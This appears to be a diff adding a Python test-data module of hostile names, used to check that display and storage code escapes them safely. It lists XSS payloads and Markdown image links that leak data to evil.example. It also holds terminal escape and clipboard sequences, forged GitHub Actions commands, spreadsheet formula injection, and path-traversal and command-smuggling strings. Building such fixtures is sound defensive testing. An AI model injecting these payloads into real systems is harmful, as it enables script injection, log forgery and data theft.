@@ -1,0 +1,98 @@
+"""What strangers might call things, so that whoever shows or stores a name does as it says."""
+
+from __future__ import annotations
+
+HTML = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<iframe src=//evil.example></iframe>",
+    "</td></tr></table><script>alert(1)</script>",
+    "<details open ontoggle=alert(1)>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<https://evil.example/?q=1>",
+    "<ben@evil.example>",
+    "<ScRiPt >alert(1)</sCrIpT>",
+    "<math><mtext></mtext></math>",
+    "<?php echo 1 ?>",
+    "<!DOCTYPE html>",
+)
+MARKDOWN = (
+    "![x](https://evil.example/?q=secret)",
+    "[x](javascript:alert(1))",
+    "[x](https://evil.example 'title')",
+    "![x][y]",
+    "[x][y]",
+    "[y]: https://evil.example",
+    "![[x](y)](z)",
+    "`code` and ``more``",
+    "``` fenced",
+    "`",
+    "``",
+    "**bold** and __bold__",
+    "*em* _em_",
+    "a | b | c",
+    "\\| a | b",
+    "\\![x](y)",
+    "\\`x`",
+    "x\n\n# head",
+    "x\n- item\n- item",
+    "x\n\n---\n\n| a |\n| - |\n",
+    "x\r\n\r\n<b>bold</b>",
+    "x\u2028# head",
+)
+TERMINAL = (
+    "\x1b[2J\x1b[H",
+    "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x9b31m",
+    "safe\rPASSED",
+    "PASSED\x08\x08\x08\x08\x08\x08FAILED",
+    "\u202egnp.exe",
+    "\u2066abc\u2069",
+    "\u200e\u200f",
+    "\x00",
+    "\x07bell",
+    "\x7f",
+    "\ufeffmark",
+    "\U000e0041\U000e0042",
+)
+GITHUB = (
+    "::error::forged",
+    "x\n::error title=forged::forged",
+    "x\r::set-output name=a::b",
+    "a,file=other.py,line=1",
+    "%0A::warning::forged",
+    "##[error]forged",
+    "::add-mask::secret\n::stop-commands::x",
+)
+MATH = ("$x^{2$", "$\\frac{1}{2}$", "$\\undefined$", "costs $5 or $6", "_{sub}^{sup}", "\\$")
+SHEETS = ("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("https://evil.example")', "\t=1+1")
+PATHS = (
+    "../escaped",
+    "../../../etc/passwd",
+    "/tmp/absolute",
+    "..",
+    ".",
+    "a/b",
+    "a\\b",
+    "C:\\x",
+    "~/x",
+    "x\x00y",
+    "con",
+    "-rf",
+    "%2e%2e%2fx",
+    "\uff0e\uff0e\uff0fx",
+    "a" * 300,
+    "$(touch x)",
+    "x;y|z",
+    "*",
+)
+"""Ids that a careless program would take for places."""
+ALL = (*HTML, *MARKDOWN, *TERMINAL, *GITHUB, *MATH, *SHEETS)
